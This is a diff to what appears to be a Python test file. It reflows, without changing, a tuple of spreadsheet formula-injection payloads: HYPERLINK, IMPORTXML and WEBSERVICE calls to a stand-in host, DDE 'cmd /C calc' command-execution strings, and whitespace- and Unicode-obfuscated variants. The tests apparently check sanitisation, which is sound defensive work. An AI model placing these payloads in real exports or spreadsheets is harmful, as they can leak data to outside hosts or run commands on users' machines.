@@ -90,35 +90,12 @@ SCRIPTS = (
     f"\x1b]8;;http://{AWAY}\x07x\x1b]8;;\x07",
 )
 FORMULAS = (
-    '=HYPERLINK("http://pwned.invalid","x")',
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    '=IMPORTXML("http://pwned.invalid","//a")',
-    '=WEBSERVICE("http://pwned.invalid")',
-    "+1+1",
-    "-1+1",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-    " =1+1",
-    "\u00a0=1+1",
-    "\ufeff=1+1",
-    "'=1+1",
-    "x\r=1+1",
-    'x"\n=1+1',
-    "＝1+1",
-    "＋1+1",
-    "－1+1",
-    "＠SUM(1)",
-    '=DDE("cmd";"/C calc";"x")',
-    "=1+1;2",
-    "=1+1,3",
-    "{=1+1}",
-    "=file://pwned.invalid/x",
-    "-2+3+cmd|' /C calc'!A0",
-    "=A1:A9",
-    "=\u200b1+1",
-)
+    '=HYPERLINK("http://pwned.invalid","x")', "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)",
+    '=IMPORTXML("http://pwned.invalid","//a")', '=WEBSERVICE("http://pwned.invalid")', "\t=1+1", "\r=1+1",
+    " =1+1", "\u00a0=1+1", "\ufeff=1+1", "'=1+1", "x\r=1+1", 'x"\n=1+1', "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
+    '=DDE("cmd";"/C calc";"x")', "=1+1;2", "=1+1,3", "{=1+1}", "=file://pwned.invalid/x",
+    "-2+3+cmd|' /C calc'!A0", "=A1:A9", "=\u200b1+1",
+)  # fmt: skip
 PAYLOADS = SCRIPTS + FORMULAS
 QUARTER = "2024-25 Q3"
 
